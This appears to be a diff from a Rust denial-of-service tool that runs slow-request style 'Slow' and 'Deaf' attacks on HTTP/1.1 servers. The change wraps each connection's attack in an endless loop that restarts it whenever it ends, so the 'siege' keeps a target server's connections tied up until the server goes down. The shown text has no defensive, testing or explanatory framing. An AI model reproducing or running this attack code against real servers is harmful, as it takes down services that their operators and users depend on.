@@ -147,16 +147,26 @@ async fn begin(order: &Order, counters: &Arc<Counters>) -> anyhow::Result<()> {
             sleep(Duration::from_millis(1)).await;
         }
         let (order, counters) = (Arc::clone(&order), Arc::clone(counters));
-        match order.kind {
-            Kind::Slow => drop(tokio::spawn(slow::attack(order, counters, nth))),
-            Kind::Deaf => drop(tokio::spawn(deaf::attack(order, counters, nth))),
-        }
+        drop(tokio::spawn(again(order, counters, nth)));
     }
     let all = usize::from(order.connections);
     while made(counters, &order) < all {
         sleep(Duration::from_millis(1)).await;
     }
     Ok(())
+}
+
+/// Attacks on one connection after the other.
+async fn again(order: Arc<Order>, counters: Arc<Counters>, nth: u16) {
+    loop {
+        // However it ends, it is taken up again; a server that is gone ends the siege soon enough.
+        let _ = match order.kind {
+            Kind::Slow => slow::once(&order, &counters, nth).await,
+            Kind::Deaf => deaf::once(&order, &counters, nth).await,
+        };
+        counters.cut.fetch_add(1, Ordering::Relaxed);
+        sleep(BEAT).await;
+    }
 }
 
 /// Connections of HTTP/1.1 that were made.
